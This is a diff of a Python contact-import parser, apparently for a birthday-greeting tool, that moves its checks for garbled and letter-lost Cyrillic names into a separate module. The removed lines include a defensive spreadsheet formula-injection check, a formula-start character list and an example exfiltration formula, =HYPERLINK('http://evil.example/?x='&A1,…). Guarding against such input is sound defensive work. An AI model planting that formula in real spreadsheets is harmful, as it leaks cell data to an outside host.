@@ -44,13 +44,10 @@ from greeter.names import (
     patronymic_gender,
     read_full_name,
 )
-from greeter.sources import cell_text, email_notes, zone_cells
+from greeter.sources import cell_text, email_notes, garbled_names, zone_cells
 from greeter.sources.caches import remember
 from greeter.sources.cell_text import (
-    GARBLED_COLUMN,
-    MOJIBAKE_FIX,
     NAME_FIELDS,
-    mojibake,
     swallowed,
 )
 from greeter.sources.columns import configured_columns, describe_control, email_fields, header_problem
@@ -64,7 +61,6 @@ from greeter.sources.date_columns import (
 )
 from greeter.sources.dates import PLACEHOLDER_DAYS, SAMPLES, DateParser, Order, day_month_order, no_date
 from greeter.sources.email_cells import invalid_address, later_address, read_email_cell
-from greeter.sources.lost_letters import lost_fix, lost_in
 from greeter.sources.name_cells import (
     NO_NAME,
     PERSON_NAME_FIELDS,
@@ -101,9 +97,6 @@ _TAG_SPLIT = re.compile(r"[,;]")
 #: The first word of an export's totals line (see :meth:`RowParser.summary_row`).
 _SUMMARY = re.compile(r"(?i)(итого|всего|total|totals|grand total)\b")
 _NO_TAGS: frozenset[str] = frozenset()
-#: A cell starting with one of these is what a spreadsheet runs as a formula (OWASP's list, as
-#: :func:`greeter.console.neutralised` has it): a name field's ``=HYPERLINK(…?x=…)`` is no lost letters.
-_FORMULA_START = "=+-@"
 #: The (read-only) empty mapping most contacts have for bad dates and extra columns, shared.
 _NO_TEXT: Mapping[str, str] = MappingProxyType({})
 _LOCALE = re.compile(r"[a-z]{2,3}(?:[_-][A-Za-z]{2,4})?")
@@ -169,7 +162,8 @@ class RowParser:
         self._name_fields = tuple(name for name in NAME_FIELDS if name in self.pos)
         #: Per name field, the (line, text) of the cells that are UTF-8 read as Latin-1, and of its first
         #: non-ASCII cell that reads right: the column's note says whether the column or some rows are
-        #: garbled (:meth:`_garbled_columns`); the advice for one differs from, and harms, the other.
+        #: garbled (:func:`~greeter.sources.garbled_names.garbled_columns`); the advice for one differs
+        #: from, and harms, the other.
         #: The fields without a right sample yet are tested per row: in a Cyrillic export, after the
         #: first row none is, and the test costs nothing more.
         self._garbled_cells: dict[str, list[tuple[int, str]]] = {}
@@ -294,13 +288,19 @@ class RowParser:
         if len(whole) > LONGEST_CELL and (too_long := self._too_long(cells, line)):
             return None, too_long
         # Only a row with a UTF-8 byte pair read as Latin-1 ("Ð˜") pays for looking closer.
-        if _MOJIBAKE_PAIR.search(whole) is not None and (garbled := self._garbled(cells, line)):
+        if _MOJIBAKE_PAIR.search(whole) is not None and (
+            garbled := garbled_names.garbled(cells, line, self._kind, self._garbled_cells, self._problem)
+        ):
             return None, garbled
         # Likewise only a row with a '?' anywhere: a name of '?'s ("???? ????????") lost its letters.
-        if "?" in whole and (lost := self._lost(cells, line)):
+        if "?" in whole and (
+            lost := garbled_names.lost_names(
+                cells, line, self._name_fields, self._kind, self.encoding, self._latin1_query, self._problem
+            )
+        ):
             return None, lost
         if self._unsampled and not whole.isascii():  # str.isascii is a flag test
-            self._sample_right(cells, line)
+            self._unsampled = garbled_names.sample_right(cells, line, self._unsampled, self._right)
         # One test over the whole row (the common, clean case), then over the strict cells, which
         # are parts of it; locate only on a hit. Every character _CONTROL matches is
         # non-printable, so a printable text needs no regex.
@@ -634,7 +634,10 @@ class RowParser:
         if whole is not None:
             problems.append(whole)
         if self._garbled_cells:
-            problems += self._garbled_columns()
+            columns = {name: self.header[self.pos[name]] for name in self._garbled_cells}
+            problems += garbled_names.garbled_columns(
+                self._garbled_cells, self._right, columns, self._kind, self.source
+            )
         problems += column_problems(self.dates, self.date_parser, self.source)
         problems += filter(None, (order_problem(col, self.date_parser, self.source) for col in self.dates))
         return problems
@@ -672,102 +675,6 @@ class RowParser:
             f" name and a patronymic (e.g. row {row}: {quoted(sample)}): read as first name {first!r},"
             f" patronymic {patronymic!r}, as no contacts.columns.patronymic is mapped"
         ]
-
-    def _garbled(self, cells: Mapping[str, str], line: int) -> list[Problem]:
-        """An error for each name field that is UTF-8 text read as Latin-1 ("Ð˜Ð²Ð°Ð½" for «Иван»).
-
-        A legacy latin1 (or utf8mb3) column holding UTF-8 bytes, or a UTF-8
-        file read as cp1252, gives such text: it went into letters as it was
-        (``check: OK``), or failed as "a control character U+0090" (MariaDB's
-        latin1 keeps cp1252's undefined bytes as C1 controls). The row is not
-        loaded — the name would go out garbled — and the error says what the
-        text most likely is and where to fix the reading.
-        """
-        problems = []
-        for name in NAME_FIELDS:
-            value = cells.get(name, "")
-            if value and (meant := mojibake(value)) is not None:
-                self._garbled_cells.setdefault(name, []).append((line, value))
-                message = (
-                    f"{quoted(value)} is UTF-8 text read as Latin-1 (most likely {quoted(meant)}); the row"
-                    f" is not loaded: {MOJIBAKE_FIX[self._kind]}"
-                )
-                problems.append(self._problem(line, name, message))
-        return problems
-
-    def _garbled_columns(self) -> list[Problem]:
-        """A note for each name column with cells of UTF-8 read as Latin-1: the whole column, or some rows.
-
-        The rows' advice to convert the column in contacts.query is right only
-        when every name of it with letters beyond ASCII is garbled (ASCII reads
-        the same either way): followed on a column whose other rows are right,
-        it turned every right Cyrillic name into «????» — and loaded them. Having
-        read every row, this says which case the column is.
-        """
-        problems = []
-        for name, cells in self._garbled_cells.items():
-            column = self.header[self.pos[name]]
-            whole_fix, rows_fix = GARBLED_COLUMN[self._kind]
-            line, sample = cells[0]
-            right = self._right.get(name)
-            if right is None:
-                message = (
-                    f"every non-ASCII name in this column ({len(cells)}) is UTF-8 text read"
-                    f" as Latin-1 (e.g. row {line}: {quoted(sample)}): {whole_fix}"
-                )
-            else:
-                rows = ", ".join(str(at) for at, _ in cells[:5]) + (", …" if len(cells) > 5 else "")
-                message = (
-                    f"{len(cells)} name(s) in this column are UTF-8 text read as Latin-1 (row(s) {rows}),"
-                    f" while its other non-ASCII names read right (e.g. row {right[0]}: {quoted(right[1])}):"
-                    f" {rows_fix}"
-                )
-            problems.append(Problem(self.source, column, message, kind="column", severity="warning"))
-        return problems
-
-    def _lost(self, cells: Mapping[str, str], line: int) -> list[Problem]:
-        """An error for each name field whose letters were replaced by '?' («???? ??????» for «Пётр Иванов»).
-
-        A conversion to a character set without the letters — latin1 or
-        ascii, in the query, the CRM's column or connection, or the export —
-        writes '?' for each one, and nothing after it can tell what they were.
-        Such a row was loaded (``check: OK``) and greeted «???? ????????, с
-        днём рождения!»: it is rejected, saying what lost the letters. Which
-        '?' is a lost letter and which a question mark: :func:`lost_in`.
-        A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
-        lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
-        """
-        problems = []
-        for name in self._name_fields:
-            value = cells[name]
-            if value and value[0] in _FORMULA_START and "?" in value:
-                # =HYPERLINK("http://evil.example/?x="&A1,…) lost no letters: said as what it is.
-                message = (
-                    f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
-                    " put the name in the CRM's field"
-                )
-                problems.append(self._problem(line, name, message))
-            elif (
-                "?" in value
-                and (note := lost_in(value, person=name in PERSON_NAME_FIELDS, encoding=self.encoding))
-                is not None
-            ):
-                fix = lost_fix(self._kind, self.encoding, self._latin1_query)
-                message = f"{quoted(value)} has '?' where letters were; the row is not loaded: {fix}{note}"
-                problems.append(self._problem(line, name, message))
-        return problems
-
-    def _sample_right(self, cells: Mapping[str, str], line: int) -> None:
-        """Keeps the first non-ASCII cell of each name field not sampled yet: it read right (the row passed
-        :meth:`_garbled`), so converting the column would garble it (:meth:`_garbled_columns`)."""
-        left = []
-        for name in self._unsampled:
-            value = cells[name]
-            if value.isascii():
-                left.append(name)
-            else:
-                self._right[name] = (line, value)
-        self._unsampled = tuple(left)
 
     def _pictograph_notes(self, cells: Mapping[str, str], line: int, problems: list[Problem]) -> str:
         """A warning for each of the row's person-name cells read without its emoji (:meth:`_name`).
